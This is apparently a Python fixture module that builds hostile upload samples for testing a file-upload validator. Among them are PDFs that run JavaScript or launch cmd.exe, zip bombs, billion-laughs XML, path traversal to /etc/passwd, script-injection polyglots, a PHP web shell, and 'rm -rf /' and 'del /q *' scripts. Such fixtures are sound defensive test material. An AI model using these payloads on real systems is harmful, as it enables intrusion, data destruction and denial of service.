"""A directory of hostile uploads, made on the spot: what an applicant, or somebody posing as one, might bring."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import NamedTuple

MEGABYTE = 1024 * 1024


class Hostile(NamedTuple):
    """One hostile file: its name, what makes it hostile, its content."""

    name: str
    why: str
    content: bytes


def png(wide: int = 4, high: int = 4, after: bytes = b"", comment: bytes = b"") -> bytes:
    """A PNG of one grey."""

    def block(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    rows = zlib.compress(b"\0" * (wide + 1) * min(high, 4))
    head = block(b"IHDR", struct.pack(">IIBBBBB", wide, high, 8, 0, 0, 0, 0))
    text = block(b"tEXt", b"Comment\0" + comment) if comment else b""
    return b"\x89PNG\r\n\x1a\n" + head + text + block(b"IDAT", rows) + block(b"IEND", b"") + after


def jpeg(wide: int = 8, high: int = 8, after: bytes = b"", comment: bytes = b"") -> bytes:
    """The blocks of a JPEG; its picture is one short run of bits."""
    comment = b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment if comment else b""
    frame = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, high, wide, 1) + b"\x01\x11\x00"
    scan = b"\xff\xda" + struct.pack(">HB", 8, 1) + b"\x01\x00\x00\x3f\x00" + b"\xd2\xcf\x20\xff\x00\x11"
    start = b"\xff\xd8\xff\xe0" + struct.pack(">H", 16) + b"JFIF\0\x01\x01\0\0\x01\0\x01\0\0"
    return start + comment + frame + scan + b"\xff\xd9" + after


def pdf(*objects: bytes, before: bytes = b"", after: bytes = b"", trailer: bytes = b"/Root 1 0 R") -> bytes:
    """A PDF written by hand; its first object is the catalogue."""
    body = b"%PDF-1.7\n" + b"".join(b"%d 0 obj\n%s\nendobj\n" % (n, o) for n, o in enumerate(objects, 1))
    return (
        before
        + body
        + b"trailer\n<<%s /Size %d>>\nstartxref\n9\n%%%%EOF\n" % (trailer, len(objects) + 1)
        + after
    )


def packed(inside: bytes, more: bytes = b"", shown: bytes | None = None) -> bytes:
    """A stream of packed objects."""
    body = shown if shown is not None else zlib.compress(inside)
    return b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d%s>>stream\n%s\nendstream" % (
        len(body),
        more,
        body,
    )


def archive(parts: dict[str, bytes], how: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A zip of named parts."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", how) as into:
        for name, content in parts.items():
            into.writestr(name, content)
    return made.getvalue()


TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
WORD = {"[Content_Types].xml": TYPES, "word/document.xml": b"<w:document/>"}
BOOK = {"[Content_Types].xml": TYPES, "xl/workbook.xml": b"<workbook/>"}
OFD = {
    "OFD.xml": b'<ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016"/>',
    "Doc_0/Document.xml": b"<ofd:Document/>",
}
PAGES = b"<</Type/Pages/Kids[]/Count 0>>"
CATALOGUE = b"<</Type/Catalog/Pages 2 0 R%s>>"
ACTING = CATALOGUE % b"/OpenAction 3 0 R"
SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
EMPTY_ZIP = b"PK\x05\x06" + b"\0" * 18


def doubled() -> bytes:
    """A workbook that holds one part twice, so that two programs read two different ones."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as into:
        for name, content in [*BOOK.items(), ("xl/workbook2.xml", b"<workbook/>")]:
            into.writestr(name, content)
    return made.getvalue().replace(b"workbook2.xml", b"workbook.xml" + b"\0")


def lying() -> bytes:
    """A workbook whose part unpacks to more than its list says."""
    whole = bytearray(archive({**BOOK, "xl/big.xml": b"<x>" + b"0" * 50_000 + b"</x>"}))
    listed = whole.rfind(b"PK\x01\x02")
    whole[listed + 24 : listed + 28] = struct.pack("<I", 10)
    return bytes(whole)


def locked() -> bytes:
    """A zip that says its parts are encrypted."""
    whole = bytearray(archive(WORD))
    place = -1
    while (place := whole.find(b"PK\x01\x02", place + 1)) >= 0:
        whole[place + 8] |= 1
    return bytes(whole)


def crowded() -> bytes:
    """A zip with far more parts than a document has."""
    return archive({**BOOK, **{f"xl/{n}.xml": b"" for n in range(8000)}}, zipfile.ZIP_STORED)


def _pdfs() -> list[Hostile]:
    script = pdf(ACTING, PAGES, SCRIPT)
    locker = b"/Root 1 0 R/Encrypt<</Filter/Standard/V 2/R 3>>"
    return [
        Hostile("a.pdf", "runs JavaScript", script),
        Hostile(
            "a.pdf", "hides JavaScript in an escaped name", script.replace(b"/JavaScript", b"/J#61vaScr#69pt")
        ),
        Hostile(
            "a.pdf",
            "hides JavaScript in packed objects",
            pdf(CATALOGUE % b"", PAGES, packed(b"3 0 " + SCRIPT)),
        ),
        Hostile(
            "a.pdf",
            "hides packed objects behind an escaped name",
            pdf(CATALOGUE % b"", PAGES, packed(b"3 0 " + SCRIPT).replace(b"/ObjStm", b"/Obj#53tm")),
        ),
        Hostile(
            "a.pdf",
            "hides its filter behind an escaped name",
            pdf(CATALOGUE % b"", PAGES, packed(b"3 0 " + SCRIPT).replace(b"/Filter", b"/Fil#74er")),
        ),
        Hostile(
            "a.pdf",
            "packs objects with an unusual filter",
            pdf(
                CATALOGUE % b"", PAGES, packed(b"").replace(b"/FlateDecode", b"[/ASCIIHexDecode/FlateDecode]")
            ),
        ),
        Hostile(
            "a.pdf",
            "packs objects with a predictor",
            pdf(CATALOGUE % b"", PAGES, packed(b"3 0 ", b"/DecodeParms<<>>")),
        ),
        Hostile("a.pdf", "unpacks to 300 MB", pdf(CATALOGUE % b"", PAGES, packed(b"\0" * (300 * MEGABYTE)))),
        Hostile("a.pdf", "packs rubbish", pdf(CATALOGUE % b"", PAGES, packed(b"", shown=b"rubbish"))),
        Hostile("a.pdf", "starts a program", pdf(ACTING, PAGES, b"<</S/Launch/F(cmd.exe)>>")),
        Hostile("a.pdf", "sends itself away", pdf(ACTING, PAGES, b"<</S/SubmitForm/F(http://x.example)>>")),
        Hostile("a.pdf", "needs a password", pdf(CATALOGUE % b"", PAGES, trailer=locker)),
        Hostile("a.pdf", "is a program first", pdf(CATALOGUE % b"", PAGES, before=b"MZ\0\0" + b"\0" * 60)),
        Hostile(
            "a.pdf", "has a page of web before it", pdf(CATALOGUE % b"", before=b"<html><script>1</script>\n")
        ),
        Hostile("a.pdf", "is a web page after its first line", b"%PDF-1.7\n<script>alert(1)</script>\n%%EOF"),
        Hostile(
            "a.pdf", "is an archive at its end", pdf(CATALOGUE % b"", PAGES, after=archive({"a.exe": b"MZ"}))
        ),
        Hostile(
            "a.pdf",
            "is an archive whose comment is the end of the PDF",
            pdf(CATALOGUE % b"", PAGES).replace(b"trailer", EMPTY_ZIP[:20] + b"\x00\x00trailer"),
        ),
        Hostile("a.pdf", "is cut off", pdf(CATALOGUE % b"", PAGES)[:60]),
    ]


def _archives() -> list[Hostile]:
    relation = (
        b'<Relationship Type="http://x/attachedTemplate" Target="http://x.example/t" TargetMode="External"/>'
    )
    laughs = b'<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><workbook>&b;</workbook>'
    return [
        Hostile("a.docm", "has macros and says so", archive({**WORD, "word/vbaProject.bin": b"\xd0\xcf"})),
        Hostile("a.docx", "has macros", archive({**WORD, "word/vbaProject.bin": b"\xd0\xcf"})),
        Hostile(
            "a.docx",
            "is a document with macros renamed",
            archive({**WORD, "[Content_Types].xml": b"macroEnabled"}),
        ),
        Hostile("a.xlsx", "has macro sheets", archive({**BOOK, "xl/macrosheets/sheet1.xml": b"<x/>"})),
        Hostile("a.xlsx", "has controls", archive({**BOOK, "xl/activeX/activeX1.bin": b"\0"})),
        Hostile(
            "a.docx", "has an embedded object", archive({**WORD, "word/embeddings/oleObject1.bin": b"\0"})
        ),
        Hostile(
            "a.docx",
            "loads a template from outside",
            archive({**WORD, "word/_rels/settings.xml.rels": relation}),
        ),
        Hostile("a.xlsx", "holds a billion laughs", archive({**BOOK, "xl/sharedStrings.xml": laughs})),
        Hostile(
            "a.xlsx", "hides them in UTF-16", archive({**BOOK, "xl/s.xml": laughs.decode().encode("utf-16")})
        ),
        Hostile("a.xlsx", "is a zip bomb", archive({**BOOK, "xl/b.xml": b"\0" * (150 * MEGABYTE)})),
        Hostile(
            "a.xlsx",
            "is many small bombs",
            archive({**BOOK, **{f"xl/{n}.xml": b"\0" * MEGABYTE for n in range(250)}}),
        ),
        Hostile("a.xlsx", "lies about its size", lying()),
        Hostile("a.xlsx", "has 8,000 parts", crowded()),
        Hostile("a.xlsx", "holds one part twice", doubled()),
        Hostile("a.docx", "climbs out of its folder", archive({**WORD, "../../etc/passwd": b"x"})),
        Hostile("a.docx", "climbs out the Windows way", archive({**WORD, "..\\..\\x.bat": b"x"})),
        Hostile("a.docx", "is locked", locked()),
        Hostile("a.docx", "is packed in an unusual way", archive(WORD, zipfile.ZIP_BZIP2)),
        Hostile("a.docx", "is cut off", archive(WORD)[:80]),
        Hostile("a.docx", "is a program first", b"MZ\0\0" + b"\0" * 60 + archive(WORD)),
        Hostile("a.ofd", "carries a script", archive({**OFD, "Doc_0/Scripts/a.js": b"x"})),
        Hostile("a.zip", "is only an archive", archive({"a.txt": b"x"})),
        Hostile("a.docx", "is only an archive with a document's name", archive({"a.txt": b"x"})),
        Hostile(
            "a.jar",
            "is a program in Java",
            archive({"META-INF/MANIFEST.MF": b"x", "A.class": b"\xca\xfe\xba\xbe"}),
        ),
    ]


def _pictures() -> list[Hostile]:
    return [
        Hostile("a.png", "has 10,000 million pixels", png(100_000, 100_000)),
        Hostile("a.jpg", "has 4,000 million pixels", jpeg(65_500, 65_500)),
        Hostile("a.png", "is a line of 50,000 pixels", png(50_000, 1)),
        Hostile("a.png", "hides a program behind it", png(after=b"MZ\0\0program")),
        Hostile("a.png", "is also a web page", png(comment=b"<script>alert(1)</script>")),
        Hostile("a.jpg", "is also a web page", jpeg(comment=b"<svg onload=alert(1)>")),
        Hostile("a.png", "is also an archive", png(comment=EMPTY_ZIP[:20] + b"\x14\0")),
        Hostile("a.png", "has a wrong sum", png().replace(b"IHDR", b"IHDR")[:-6] + b"xxxxxx"),
        Hostile("a.png", "is cut off", png()[:40]),
        Hostile("a.jpg", "is cut off", jpeg()[:40]),
        Hostile("a.png", "has no size", b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 0) + b"IEND\xaeB`\x82"),
        Hostile("a.jpg", "has no size", b"\xff\xd8\xff\xd9"),
        Hostile(
            "a.svg",
            "is a drawing that runs a script",
            b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        ),
        Hostile("a.webp", "is a WebP", b"RIFF\x24\0\0\0WEBPVP8 "),
        Hostile("a.gif", "is no picture taken here", b"GIF89a" + b"\0" * 20),
        Hostile("a.png", "is a GIF", b"GIF89a" + b"\0" * 20),
        Hostile("a.jpg", "is a phone's HEIC", b"\0\0\0\x18ftypheic" + b"\0" * 20),
    ]


def _others() -> list[Hostile]:
    return [
        Hostile("a.exe", "is a Windows program", b"MZ\x90\0" + b"\0" * 60),
        Hostile("a.pdf", "is a Windows program called PDF", b"MZ\x90\0" + b"\0" * 60),
        Hostile("a.txt", "is a Linux program", b"\x7fELF" + b"\0" * 60),
        Hostile("a.txt", "is a script", b"#!/bin/sh\nrm -rf /\n"),
        Hostile("a.bat", "is a batch file", b"@echo off\r\ndel /q *\r\n"),
        Hostile("a.html", "is a web page", b"<!DOCTYPE html><script>alert(1)</script>"),
        Hostile("a.txt", "is a web page called text", b"\n\n <HTML><body onload=alert(1)>"),
        Hostile("a.txt", "is a web page in UTF-16", "<script>alert(1)</script>".encode("utf-16")),
        Hostile("a.txt", "is a page of PHP", b"<?php system($_GET['c']);"),
        Hostile("a.txt", "is binary", bytes(range(256)) * 8),
        Hostile("a.doc", "is an old Office file", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 60),
        Hostile("a.docx", "is an encrypted Office file", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 60),
        Hostile("a.rtf", "is an RTF document", b"{\\rtf1 {\\object\\objautlink}}"),
        Hostile("a.txt", "is PostScript", b"%!PS\n(/etc/passwd) run"),
        Hostile("a.rar", "is another archive", b"Rar!\x1a\x07\0" + b"\0" * 20),
        Hostile("a.txt", "is a shortcut", b"L\0\0\0\x01\x14\x02\0" + b"\0" * 60),
        Hostile("a.tar", "is a tape archive", b"\0" * 257 + b"ustar\0" + b"\0" * 300),
        Hostile("a.pdf", "is empty", b""),
        Hostile("a.txt", "is nothing but blanks", b"  \n\n"),
        Hostile("a.pdf", "is too large", b"%PDF-1.7\n" + b"0" * (21 * MEGABYTE)),
        Hostile("plan.pdf", "is a picture called PDF", png()),
        Hostile("plan.png", "is a JPEG called PNG", jpeg()),
        Hostile("plan.docx", "is a workbook called document", archive(BOOK)),
        Hostile("plan", "has no ending", png()),
        Hostile("plan.png.exe", "is a picture that will be started", png()),
        Hostile("plan\u202egnp.exe", "reads backwards", png()),
    ]


KINDS: tuple[Callable[[], list[Hostile]], ...] = (_pdfs, _archives, _pictures, _others)


def directory() -> list[Hostile]:
    """All of them."""
    return [file for kind in KINDS for file in kind()]
